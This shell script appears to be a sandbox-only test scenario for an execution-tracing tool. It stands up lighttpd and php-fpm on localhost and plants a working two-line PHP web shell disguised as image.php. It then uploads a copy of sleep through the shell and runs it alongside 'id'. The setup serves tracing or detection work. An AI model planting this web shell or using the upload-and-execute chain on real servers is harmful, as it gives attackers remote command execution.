#!/bin/sh
# A PHP page behind lighttpd takes an upload, and a second request has the shell of php-fpm run it from the web root.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

mkdir -p /var/www/html/up /home/bob /run/php
chown www-data:www-data /var/www/html/up
# What an attacker has put there before: a web shell of two lines.
cat >/var/www/html/up/image.php <<'PHP'
<?php
if (isset($_GET['c'])) { echo shell_exec($_GET['c']); }
else { file_put_contents('/var/www/html/up/x', file_get_contents('php://input')); chmod('/var/www/html/up/x', 0755); }
PHP
cat >/etc/lighttpd/scenario.conf <<'CONF'
server.modules = ( "mod_fastcgi" )
server.document-root = "/var/www/html"
server.bind = "127.0.0.1"
server.port = 80
server.username = "www-data"
server.groupname = "www-data"
server.pid-file = "/run/lighttpd.pid"
fastcgi.server = ( ".php" => (( "socket" => "/run/php/web.sock" )) )
CONF
cat >/home/bob/pool.conf <<'CONF'
[global]
pid = /run/php/fpm.pid
error_log = /home/bob/log
[web]
user = www-data
group = www-data
listen = /run/php/web.sock
listen.owner = www-data
pm = static
pm.max_children = 1
CONF
/usr/sbin/php-fpm* --fpm-config /home/bob/pool.conf
lighttpd -f /etc/lighttpd/scenario.conf

# A copy of sleep stands in for what is uploaded.
cat >/home/bob/requests <<'CLIENT'
request() {
  until { exec 3<>/dev/tcp/127.0.0.1/80; } 2>/dev/null; do sleep 0.05; done
  { printf '%s HTTP/1.0\r\nContent-Length: %s\r\n\r\n' "$1" "$2"; cat; } >&3
  cat <&3
  exec 3>&-
}
request 'POST /up/image.php' "$(stat -c %s /usr/bin/sleep)" </usr/bin/sleep
request 'GET /up/image.php?c=cd+/var/www/html/up;id;./x+0.1' 0 </dev/null
CLIENT
bash /home/bob/requests

kill "$(cat /run/lighttpd.pid)" "$(cat /run/php/fpm.pid)"
sleep 0.2
